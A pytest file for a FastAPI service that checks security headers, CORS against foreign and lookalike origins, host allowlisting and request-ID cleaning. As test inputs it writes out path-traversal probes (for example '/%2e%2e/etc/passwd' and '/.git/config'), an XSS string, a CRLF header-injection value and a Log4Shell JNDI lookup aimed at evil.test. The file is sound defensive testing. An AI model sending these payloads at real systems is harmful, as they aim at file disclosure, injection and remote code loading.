"""What every answer of every route carries, errors and pages included: generated from the routes."""

from __future__ import annotations

import base64
import hashlib
import re
from collections.abc import Iterator

import httpx
import pytest
from fastapi.testclient import TestClient

from app.config import Settings
from app.main import create_app
from tests.fixtures.customer import Customer
from tests.fixtures.world import Running
from tests.routes import routes_of

METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")
ODD_PATHS = (
    "/", "/nothing", "/api", "/api/v1", "/api/v1/nothing", "/api/v2/auth/me", "/docs/assets/",
    "/docs/assets/nothing.js", "/docs/assets/swagger-ui.css", "/docs/assets/..%2f..%2fmain.py",
    "/api/v1/auth/me/", "//", "/%2e%2e/etc/passwd", "/.git/config", "/api/v1/domains/%00",
    "/api/v1/domains/not-an-id", "/redoc",
)  # fmt: skip
EXACT = {
    "strict-transport-security": "max-age=63072000; includeSubDomains",
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
    "cache-control": "no-store",
}
TELLING = ("server", "x-powered-by", "via", "x-aspnet-version")


@pytest.fixture(scope="module")
def routes() -> list[tuple[str, str]]:
    from app.main import app

    found = routes_of(app)
    assert len(found) > 75
    return found


def faults(answer: httpx.Response) -> Iterator[str]:
    """What is wrong with an answer, whatever it answers."""
    headers = answer.headers
    for name, value in EXACT.items():
        if headers.get_list(name) != [value]:
            yield f"{name}: {headers.get_list(name)}"
    policy = headers.get("content-security-policy", "")
    for part in ("default-src 'none'", "frame-ancestors 'none'"):
        if part not in policy:
            yield f"policy {policy}"
    if "script-src" in policy and "unsafe" in policy.partition("script-src")[2].partition(";")[0]:
        yield f"scripts {policy}"
    if "camera=()" not in headers.get("permissions-policy", ""):
        yield "permissions-policy"
    if not re.fullmatch(r"[0-9a-f]{32}", headers.get("x-request-id", "")):
        yield "x-request-id"
    yield from (name for name in TELLING if name in headers)
    yield from (name for name in headers if name.startswith("access-control-"))
    if "Traceback" in answer.text or 'File "/' in answer.text:
        yield "a traceback"
    if answer.status_code >= 500:
        yield f"status {answer.status_code}"
    if answer.status_code == 405 and "allow" not in headers:
        yield "405 without Allow"
    page = headers.get("content-type", "").startswith("text/html")
    if answer.status_code >= 400 and answer.request.method != "HEAD" and not page:
        body = answer.json()
        if set(body) != {"status", "error_code", "message", "details", "request_id"}:
            yield f"envelope {body}"
        elif body["request_id"] != headers["x-request-id"]:
            yield "another request id"


def check(client: httpx.Client, targets: list[tuple[str, str]]) -> None:
    found = {}
    for method, path in targets:
        answer = client.request(method, path)
        if wrong := list(faults(answer)):
            found[f"{method} {path} -> {answer.status_code}"] = wrong
    assert not found


def test_every_method_of_every_path(api: httpx.Client, routes: list[tuple[str, str]]) -> None:
    paths = sorted({path for _, path in routes} | set(ODD_PATHS))
    check(api, [(method, path) for path in paths for method in METHODS])


def test_every_reading_of_somebody_signed_in(
    signed_in: Customer, world: Running, routes: list[tuple[str, str]]
) -> None:
    headers = {"Authorization": signed_in.http.headers["Authorization"]}
    with httpx.Client(base_url=world.api_url, headers=headers, timeout=30) as client:
        check(client, [(method, path) for method, path in routes if method == "GET"])


def test_the_page_of_the_documentation_runs_no_script_but_ours(api: httpx.Client) -> None:
    page = api.get("/docs")
    policy = page.headers["content-security-policy"]
    inline = re.findall(r"<script>(.*?)</script>", page.text, re.S)
    assert inline
    for script in inline:
        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy
    sources = re.findall(r'<(?:script|link|img)[^>]+(?:src|href)="([^"]+)"', page.text)
    assert sources
    assert all(source.startswith("/docs/assets/") for source in sources)
    assert api.get("/docs").text == page.text


# CORS -------------------------------------------------------------------------------------------

OURS, FOREIGN = "https://console.acme.test", "https://evil.test"


@pytest.fixture
def listed(world: Running) -> TestClient:
    """The product with one page that may call it."""
    app = create_app(Settings(cors_origins=[OURS]))
    return TestClient(app, base_url="http://127.0.0.1")


def about_cors(answer: httpx.Response) -> dict[str, str]:
    return {k: v for k, v in answer.headers.items() if k.startswith("access-control-")}


def test_a_foreign_origin_is_told_nothing(
    listed: TestClient, routes: list[tuple[str, str]]
) -> None:
    preflight = {"Access-Control-Request-Method": "POST", "Origin": FOREIGN}
    lookalikes = (
        FOREIGN,
        "null",
        f"{OURS}.evil.test",
        OURS.upper(),
        "http://console.acme.test",
        "*",
    )
    for method, path in routes:
        answer = listed.request(method, path, headers={"Origin": FOREIGN})
        assert about_cors(answer) == {}, (method, path)
        answer = listed.options(path, headers=preflight)
        assert about_cors(answer) == {}, path
        assert answer.status_code in {400, 401, 404, 405}, path
        assert answer.json()["status"] == "error"
    for origin in lookalikes:
        answer = listed.get("/api/v1/billing/plans", headers={"Origin": origin})
        assert about_cors(answer) == {}, origin


def test_a_listed_origin_may_read_and_never_with_cookies(
    listed: TestClient, routes: list[tuple[str, str]]
) -> None:
    for method, path in routes:
        answer = listed.request(method, path, headers={"Origin": OURS})
        assert answer.headers["access-control-allow-origin"] == OURS, (method, path)
        assert "access-control-allow-credentials" not in answer.headers
        assert "Origin" in answer.headers["vary"]
        answer = listed.options(
            path, headers={"Origin": OURS, "Access-Control-Request-Method": "POST"}
        )
        assert answer.status_code == 200, path
        assert answer.headers["access-control-allow-origin"] == OURS
        assert "access-control-allow-credentials" not in answer.headers
        assert "*" not in " ".join(about_cors(answer).values())


def test_a_page_can_read_the_headers_it_needs(listed: TestClient) -> None:
    answer = listed.get("/api/v1/billing/plans", headers={"Origin": OURS})
    exposed = set(answer.headers["access-control-expose-headers"].split(", "))
    ours = {"X-Request-ID", "Retry-After", "RateLimit", "RateLimit-Policy", "RateLimit-Remaining"}
    assert ours <= exposed


def test_nobody_may_call_by_default(api: httpx.Client) -> None:
    assert about_cors(api.get("/api/v1/billing/plans", headers={"Origin": FOREIGN})) == {}


# Hosts ------------------------------------------------------------------------------------------


def test_only_our_hosts_are_served(world: Running, routes: list[tuple[str, str]]) -> None:
    app = create_app(Settings(allowed_hosts=["api.acme.test"]))
    probes = {"/healthz", "/readyz", "/metrics"}
    client = TestClient(app, base_url="http://evil.test")
    for method, path in routes:
        forwarded = {"X-Forwarded-Host": "api.acme.test", "Forwarded": "host=api.acme.test"}
        answer = client.request(method, path, headers=forwarded)
        if path in probes:
            assert answer.status_code == 200, path
        else:
            assert answer.status_code == 400, (method, path)
            assert method == "HEAD" or answer.json()["error_code"] == "VALIDATION_ERROR"
    ours = TestClient(app, base_url="http://api.acme.test")
    assert ours.get("/api/v1/billing/plans").status_code == 200


# Request ids ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("0190c3a4-7b1e-7c3a-9d57-0f4f1b9a6c11", True),
        ("req_01.A-b", True),
        ("x" * 64, True),
        ("x" * 65, False),
        ("short", False),
        ("spaces are not", False),
        ("<script>alert(1)</script>", False),
        ('"},{"level":"error', False),
        ("%0d%0aSet-Cookie:a=b", False),
        ("кириллица", False),
        ("${jndi:ldap://evil.test/a}", False),
        ("", False),
    ],
)
def test_a_callers_id_is_kept_when_it_is_harmless(
    api: httpx.Client, given: str, kept: bool
) -> None:
    answer = api.get("/api/v1/auth/me", headers={"X-Request-ID": given.encode()})
    told = answer.headers["x-request-id"]
    assert told == answer.json()["request_id"]
    assert (told == given) is kept
